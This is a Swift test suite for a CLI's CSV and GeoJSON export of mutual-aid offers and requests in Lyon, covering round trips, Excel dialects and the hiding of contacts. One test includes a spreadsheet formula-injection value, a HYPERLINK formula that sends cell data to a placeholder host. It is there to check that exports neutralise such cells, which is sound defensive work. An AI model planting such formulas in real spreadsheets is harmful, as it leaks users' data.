import Foundation
import XCTest

/// `boucle import-csv`, `export-csv` and `export-geojson` through the real binary: the CSV
/// fixtures round-trip byte for byte, a bad row imports nothing, importing again changes
/// nothing, and the GeoJSON follows RFC 7946 and leaves contacts out unless asked.
final class SpreadsheetTests: CLITestCase {
    private static let fixtures = URL(fileURLWithPath: #filePath)
        .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        .appendingPathComponent("Fixtures", isDirectory: true)

    private func fixture(_ name: String) throws -> String {
        let path = Self.fixtures.appendingPathComponent(name).path
        guard FileManager.default.fileExists(atPath: path) else {
            XCTFail("\(path) is missing: run `python3 Fixtures/generate.py`")
            throw HarnessError("no \(name)")
        }
        return path
    }

    private func contents(_ path: String) throws -> String {
        String(decoding: try Data(contentsOf: URL(fileURLWithPath: path)), as: UTF8.self)
    }

    // MARK: CSV

    func testOffersFixtureRoundTripsByteForByte() throws {
        let replica = try makeReplica("nord", team: "nord")
        let offers = try fixture("csv/offers.csv")
        XCTAssertEqual(try replica.ok("import-csv", "offer", offers), "imported 30 rows into offer: 30 added, 0 updated, 0 unchanged")
        let exported = try CLI.run(["export-csv", "offer", "--replica", replica.path])
        XCTAssertEqual(exported.status, 0, exported.err)
        XCTAssertEqual(exported.out, try contents(offers))
    }

    func testRequestsFixtureRoundTripsByteForByte() throws {
        let replica = try makeReplica("nord", team: "nord")
        let requests = try fixture("csv/requests.csv")
        try replica.ok("import-csv", "request", requests)
        XCTAssertEqual(try replica.ok("export-csv", "request", "-o", path("requests.csv")), "wrote 30 request rows to \(path("requests.csv"))")
        XCTAssertEqual(try contents(path("requests.csv")), try contents(requests))
    }

    /// The offers as French Excel saves "CSV UTF-8" (a byte order mark, `;`, decimal commas,
    /// CRLF) import as the same records as `offers.csv`, and `export-csv --excel` writes them
    /// back byte for byte.
    func testAFileSavedByFrenchExcelImportsLikeTheStandardOne() throws {
        let replica = try makeReplica("nord", team: "nord")
        let excel = try fixture("csv/offers-excel.csv")
        XCTAssertEqual(try replica.ok("import-csv", "offer", excel), "imported 30 rows into offer: 30 added, 0 updated, 0 unchanged")
        XCTAssertEqual(try replica.ok("export-csv", "offer") + "\n", try contents(try fixture("csv/offers.csv")))
        try replica.ok("export-csv", "offer", "--excel", "-o", path("back.csv"))
        XCTAssertEqual(try Data(contentsOf: URL(fileURLWithPath: path("back.csv"))), try Data(contentsOf: URL(fileURLWithPath: excel)))
        XCTAssertEqual(try replica.ok("import-csv", "offer", excel), "imported 30 rows into offer: 0 added, 0 updated, 30 unchanged")
    }

    /// Excel's "Unicode text" (UTF-16) is refused with the way to save the file, nothing imported.
    func testExcelsUnicodeTextIsRefusedWithTheFix() throws {
        let replica = try makeReplica("nord", team: "nord")
        let result = try replica.run("import-csv", "offer", try fixture("csv/offers-unicode-text.txt"))
        XCTAssertEqual(result.status, 1, result.err)
        XCTAssertTrue(result.err.contains("UTF-16"), result.err)
        XCTAssertTrue(result.err.contains("save it as \"CSV UTF-8 (comma delimited)\""), result.err)
        XCTAssertEqual(try JSON.objects(try replica.json("list", "offer")).count, 0)
    }

    func testBadRowImportsNothingAndIsNamedByLineAndColumn() throws {
        let replica = try makeReplica("nord", team: "nord")
        try replica.addOffer()
        let before = try replica.digest()
        let result = try replica.run("import-csv", "offer", try fixture("csv/bad-row.csv"))
        XCTAssertEqual(result.status, 1, result.err)
        XCTAssertEqual(result.out, "")
        XCTAssertTrue(result.err.hasPrefix("boucle: error: "), result.err)
        XCTAssertTrue(result.err.contains("line 5"), result.err)
        XCTAssertTrue(result.err.contains("lat"), result.err)
        XCTAssertTrue(result.err.contains("nothing was imported"), result.err)
        XCTAssertFalse(result.err.contains("45.7619 N"), "the cell's value is not quoted: \(result.err)")
        XCTAssertEqual(try replica.digest(), before)
        XCTAssertEqual(try JSON.objects(try replica.json("list", "offer")).count, 1)
    }

    func testImportingTheSameFileAgainChangesNothing() throws {
        let replica = try makeReplica("nord", team: "nord")
        let offers = try fixture("csv/offers.csv")
        try replica.ok("import-csv", "offer", offers)
        let before = try replica.digest()
        let again = try JSON.object(try replica.json("import-csv", "offer", offers))
        XCTAssertEqual(again["rows"] as? Int, 30)
        XCTAssertEqual(again["added"] as? Int, 0)
        XCTAssertEqual(again["updated"] as? Int, 0)
        XCTAssertEqual(again["unchanged"] as? Int, 30)
        XCTAssertEqual(try replica.digest(), before)
    }

    /// A text a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
    /// CR) is exported behind an apostrophe, which spreadsheets read as "this is text" and do not
    /// show, in both dialects; numbers stay numbers; import-csv takes the apostrophe off again, so
    /// every text round-trips (importing the export changes nothing), one that already starts
    /// with apostrophes included.
    func testTextsASpreadsheetWouldRunAsFormulasAreExportedAsTextAndRoundTrip() throws {
        let replica = try makeReplica("nord", team: "nord")
        let texts = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Aide\")", "+33 6 39 98 12 34", "- courses", "@Lyon", "\tcourses",
                     "'=1+1", "''@x", "'apostrophe", "Courses = pain"]
        var ids: [String: String] = [:]
        for text in texts {
            ids[text] = try replica.addOffer("--details", text, "--lat", "-45.5", "--lon", "-0.25")
        }
        for excel in [false, true] {
            let exported = try replica.run(["export-csv", "offer"] + (excel ? ["--excel"] : []))
            XCTAssertEqual(exported.status, 0, exported.err)
            let separator = excel ? ";" : ","
            for (text, id) in ids {
                let row = try XCTUnwrap(exported.out.split(separator: excel ? "\r\n" : "\n").first { $0.hasPrefix(id) }, text)
                let guarded = ["=", "+", "-", "@", "\t"].contains(text.drop { $0 == "'" }.prefix(1))
                var cell = (guarded ? "'" : "") + text
                if cell.contains(",") || cell.contains(";") || cell.contains("\"") { cell = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
                XCTAssertTrue(row.contains(separator + cell + separator), "\(text) in \(row)")
                XCTAssertTrue(row.contains(excel ? #";"-45,5";"-0,25";"# : ",-45.5,-0.25,"), "numbers stay numbers: \(row)")
            }
            let file = path(excel ? "excel.csv" : "standard.csv")
            try Data(exported.out.utf8).write(to: URL(fileURLWithPath: file))
            XCTAssertEqual(try replica.ok("import-csv", "offer", file),
                           "imported \(texts.count) rows into offer: 0 added, 0 updated, \(texts.count) unchanged", "round-trips")
            for (text, id) in ids {
                XCTAssertEqual(try JSON.object(try replica.json("show", id))["details"] as? String, text)
            }
        }
    }

    func testRowWithAKnownIDUpdatesOnlyItsCellsAndAnEmptyCellClears() throws {
        let replica = try makeReplica("nord", team: "nord")
        let id = try replica.addOffer("--phone", "06 39 98 12 34", "--address", "12 rue Mercière, 69002 Lyon")
        try Data("phone,id,status\n,\(id),paused\n".utf8).write(to: URL(fileURLWithPath: path("edit.csv")))
        XCTAssertEqual(try replica.ok("import-csv", "offer", path("edit.csv")), "imported 1 row into offer: 0 added, 1 updated, 0 unchanged")
        let shown = try JSON.object(try replica.json("show", id))
        XCTAssertEqual(shown["status"] as? String, "paused")
        XCTAssertNil(shown["phone"], "an empty cell clears the field")
        XCTAssertEqual(shown["title"] as? String, "Courses le samedi", "a column left out is left alone")
        XCTAssertEqual(shown["address"] as? String, "12 rue Mercière, 69002 Lyon")
    }

    func testRowWithoutAnIDAddsARecordWithTheDefaultsOfOfferAdd() throws {
        let replica = try makeReplica("nord", team: "nord")
        try Data("\u{FEFF}category,title\r\npets,\"Promenade de chien, le soir\"\r\n,\r\n".utf8)
            .write(to: URL(fileURLWithPath: path("new.csv")))
        XCTAssertEqual(try replica.ok("import-csv", "offer", path("new.csv")), "imported 1 row into offer: 1 added, 0 updated, 0 unchanged")
        let offers = try JSON.objects(try replica.json("list", "offer"))
        XCTAssertEqual(offers.count, 1)
        XCTAssertEqual(offers.first?["title"] as? String, "Promenade de chien, le soir")
        XCTAssertEqual(offers.first?["status"] as? String, "open")
        XCTAssertEqual(offers.first?["remote"] as? Bool, false)
    }

    func testUnknownColumnIsRefusedByName() throws {
        let replica = try makeReplica("nord", team: "nord")
        try Data("category,title,colour\npets,Promenade,bleu\n".utf8).write(to: URL(fileURLWithPath: path("colour.csv")))
        let result = try replica.run("import-csv", "offer", path("colour.csv"))
        XCTAssertEqual(result.status, 1)
        XCTAssertEqual(
            result.err,
            "boucle: error: \(path("colour.csv")): line 1: unknown column \"colour\" for offer (columns: id, category, title, details, address, lat, lon, remote, status, contact_name, phone); nothing was imported\n"
        )
    }

    func testNewRowWithoutARequiredColumnIsRefused() throws {
        let replica = try makeReplica("nord", team: "nord")
        try Data("id,title\n,Promenade\n".utf8).write(to: URL(fileURLWithPath: path("partial.csv")))
        let result = try replica.run("import-csv", "offer", path("partial.csv"))
        XCTAssertEqual(result.status, 1)
        XCTAssertEqual(result.err, "boucle: error: \(path("partial.csv")): line 2: a new offer needs category (empty or missing column); nothing was imported\n")
    }

    func testUnknownCollectionIsBadUsage() throws {
        let replica = try makeReplica("nord", team: "nord")
        XCTAssertEqual(try replica.run("export-csv", "pizza").status, 2)
        XCTAssertEqual(try replica.run("import-csv", "pizza", try fixture("csv/offers.csv")).status, 2)
    }

    // MARK: GeoJSON

    /// Every Feature of `export-geojson` (RFC 7946 §3): checks the structure and returns the
    /// features' properties with their [lon, lat].
    private func features(_ text: String, file: StaticString = #filePath, line: UInt = #line) throws -> [([String: Any], [Double])] {
        let root = try JSON.object(try JSON.parse(text, file: file, line: line), file: file, line: line)
        XCTAssertEqual(root["type"] as? String, "FeatureCollection", file: file, line: line)
        XCTAssertNil(root["crs"], "RFC 7946 removed crs", file: file, line: line)
        let features = try JSON.objects(try XCTUnwrap(root["features"], file: file, line: line), file: file, line: line)
        return try features.map { feature in
            XCTAssertEqual(feature["type"] as? String, "Feature", file: file, line: line)
            let geometry = try JSON.object(try XCTUnwrap(feature["geometry"], file: file, line: line), file: file, line: line)
            XCTAssertEqual(geometry["type"] as? String, "Point", file: file, line: line)
            let coordinates = try XCTUnwrap(geometry["coordinates"] as? [Double], file: file, line: line)
            XCTAssertEqual(coordinates.count, 2, file: file, line: line)
            // Longitude first: Lyon is about 4.8° east, 45.76° north.
            XCTAssertTrue((4.70...4.95).contains(coordinates[0]), "longitude \(coordinates)", file: file, line: line)
            XCTAssertTrue((45.70...45.82).contains(coordinates[1]), "latitude \(coordinates)", file: file, line: line)
            let properties = try JSON.object(try XCTUnwrap(feature["properties"], file: file, line: line), file: file, line: line)
            XCTAssertEqual(properties["status"] as? String, "open", file: file, line: line)
            return (properties, coordinates)
        }
    }

    private func sampleReplica() throws -> Replica {
        let replica = try makeReplica("city", team: "city")
        try replica.importFile(try fixture("sample/lyon.changeset"))
        return replica
    }

    func testGeoJSONIsAFeatureCollectionOfLocatedOpenOffersAndRequestsWithoutContacts() throws {
        let replica = try sampleReplica()
        let located = try ["offer", "request"].flatMap { try JSON.objects(try replica.json("list", $0)) }
            .filter { $0["status"] as? String == "open" && $0["lat"] is Double && $0["lon"] is Double }
        let found = try features(try replica.ok("export-geojson"))
        XCTAssertEqual(found.count, located.count)
        XCTAssertGreaterThan(found.count, 100)
        XCTAssertEqual(Set(found.compactMap { $0.0["id"] as? String }), Set(located.compactMap { $0["id"] as? String }))
        let allowed: Set<String> = ["id", "collection", "category", "title", "status", "remote", "urgency"]
        for (properties, coordinates) in found {
            XCTAssertTrue(Set(properties.keys).isSubset(of: allowed), "\(properties.keys.sorted())")
            for hidden in ["phone", "contact_name", "address", "on_behalf_of", "details"] {
                XCTAssertNil(properties[hidden], hidden)
            }
            for degrees in coordinates {
                XCTAssertEqual(degrees, (degrees * 1000).rounded() / 1000, "rounded to 3 decimals: \(coordinates)")
            }
            if properties["collection"] as? String == "request" { XCTAssertNotNil(properties["urgency"]) }
        }
    }

    func testGeoJSONWithContactsHasExactPointsNamesPhonesAndAddresses() throws {
        let replica = try sampleReplica()
        let records = try ["offer", "request"].flatMap { try JSON.objects(try replica.json("list", $0)) }
        let byID = Dictionary(records.map { ($0["id"] as? String ?? "", $0) }) { first, _ in first }
        let found = try features(try replica.ok("export-geojson", "--with-contacts"))
        XCTAssertFalse(found.isEmpty)
        for (properties, coordinates) in found {
            let record = try XCTUnwrap(byID[properties["id"] as? String ?? ""])
            XCTAssertEqual(coordinates, [try XCTUnwrap(record["lon"] as? Double), try XCTUnwrap(record["lat"] as? Double)])
            for field in ["address", "contact_name", "phone", "on_behalf_of", "details"] {
                XCTAssertEqual(properties[field] as? String, record[field] as? String, field)
            }
        }
        XCTAssertTrue(found.contains { $0.0["phone"] is String })
        XCTAssertTrue(found.contains { $0.0["contact_name"] is String })
        XCTAssertTrue(found.contains { $0.0["address"] is String })
    }

    func testGeoJSONOfTheSampleHoldsNoPhoneNumberOfTheSample() throws {
        let replica = try sampleReplica()
        let sample = try contents(try fixture("sample/lyon.changeset"))
        let pattern = try NSRegularExpression(pattern: "06 39 98 [0-9]{2} [0-9]{2}")
        let phones = Set(pattern.matches(in: sample, range: NSRange(sample.startIndex..., in: sample))
            .compactMap { Range($0.range, in: sample).map { String(sample[$0]) } })
        XCTAssertGreaterThan(phones.count, 100)
        try replica.ok("export-geojson", "-o", path("map.geojson"))
        let map = try contents(path("map.geojson"))
        XCTAssertFalse(map.isEmpty)
        for phone in phones { XCTAssertFalse(map.contains(phone), "the map holds a phone number of the sample") }
        let withContacts = try replica.ok("export-geojson", "--with-contacts")
        XCTAssertTrue(phones.contains { withContacts.contains($0) }, "--with-contacts keeps them")
    }
}
